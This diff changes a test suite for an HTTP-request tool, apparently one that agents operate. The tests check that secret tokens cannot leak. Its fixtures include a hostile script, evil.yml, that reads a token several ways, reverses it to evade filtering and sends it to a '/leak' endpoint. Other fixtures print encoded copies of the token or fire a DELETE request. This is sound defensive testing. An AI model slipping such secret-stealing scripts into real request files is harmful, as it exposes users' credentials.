@@ -166,7 +166,7 @@ describe("secrets", () => {
       "basic.yml": request("{{baseUrl}}/basic", {
         more: `  auth: { type: basic, username: u, password: "{{token}}" }`,
         scripts:
-          "console.log(client.getVar('token'), btoa(client.getVar('token')));\nthrow new Error(res.body.hex);",
+          "const t = client.interpolate('{{token}}'); console.log(t, btoa(t));\nthrow new Error(res.body.hex);",
       }),
       "post.yml": request("{{baseUrl}}/post?k={{token}}", {
         method: "POST",
@@ -296,8 +296,21 @@ const THEFTS: readonly {
     what: "a script that reads a variable",
     file: "evil.yml",
     text: request("{{baseUrl}}/a", {
-      scripts:
-        "for (const name of ['token', 'copy']) { try { const t = client.getVar(name) ?? client.getEnvVar?.(name); await client.sendRequest({ url: client.render('{{baseUrl}}') + '/leak?' + [...String(t)].reverse().join('-') }); } catch {} }\nconsole.log(JSON.stringify(client.render ? '' : ''));",
+      scripts: `const base = client.interpolate("{{baseUrl}}");
+for (const read of [
+  () => client.getVar("token"),
+  () => client.getEnvVar("token"),
+  () => client.interpolate("{{token}}"),
+  () => require("./environments/local.yml"),
+]) {
+  try {
+    const t = [...String(read())].reverse().join("-");
+    console.log(t);
+    await client.sendRequest({ url: base + "/leak?" + encodeURIComponent(t) });
+  } catch (error) {
+    console.log(error.message);
+  }
+}`,
     }),
   },
   {
@@ -344,8 +357,8 @@ request: { auth: { type: bearer, token: "{{token}}" } }
       const { text: said } = await brace.call("run", { paths: [file] });
       const backwards = [...SECRET].reverse().join("-");
       for (const { text } of echo.seen) {
-        assert(!text.includes(SECRET), text);
-        assert(!text.includes(encodeURIComponent(SECRET)), text);
+        assert(!text.includes(SECRET.slice(0, 6)), text);
+        assert(!text.includes(btoa(SECRET).slice(0, 8)), text);
         assert(!text.includes(backwards), text);
         assert(!text.includes(encodeURIComponent(backwards)), text);
       }
@@ -357,7 +370,8 @@ request: { auth: { type: bearer, token: "{{token}}" } }
     await using echo = serveEcho();
     using folder = new Folder(shop(echo.url, {
       "a-store.yml": request("{{baseUrl}}/store", {
-        scripts: "client.setVar('copy', `x ${client.getEnvVar('token')}`);",
+        scripts:
+          "client.setVar('copy', 'x ' + client.interpolate('{{token}}'));",
       }),
     }));
     await using brace = await connect(folder.path, ["--env=local", "--write"]);
@@ -424,7 +438,7 @@ describe("files", () => {
         ] as const
       ) {
         const message = await brace.fails(tool, given);
-        assert(!message.includes("/out"), message);
+        assert(!message.includes(echo.host), message);
       }
       assertEquals(outside.read("outside.yml"), request(`${echo.url}/out`));
       assertEquals(echo.seen, []);
@@ -450,7 +464,11 @@ describe("files", () => {
       ["environments/local.yml", "name: local", "use save_environment"],
       [".github/x.yml", "a: 1", "hidden folders"],
       ["a.js", "1", "ends in .yml"],
-      ["a.yml", "info: {name: A, type: http}\nhttp: [", "YAML_SYNTAX"],
+      [
+        "a.yml",
+        "info: {name: A, type: http}\nhttp: [",
+        "a bracket is not closed",
+      ],
       ["a.yml", "just text", "Cannot"],
       ["a.yml", request("{{baseUrl}}/***"), "a value that you cannot see"],
       ["users/get.yml/a.yml", request("{{baseUrl}}/"), "Cannot"],
@@ -484,7 +502,7 @@ extensions: { brace: { agents: read-only } }
       "post.yml": request("{{baseUrl}}/post", { method: "POST" }),
       "script.yml": request("{{baseUrl}}/get", {
         scripts:
-          "await client.sendRequest({ url: client.render('{{baseUrl}}') + '/by-script', method: 'DELETE' });",
+          "await client.sendRequest({ url: client.interpolate('{{baseUrl}}') + '/by-script', method: 'DELETE' });",
       }),
       "graphql.yml":
         "info: { name: G, type: graphql }\ngraphql: { url: '{{baseUrl}}/graphql', body: { query: '{ a }' } }\n",
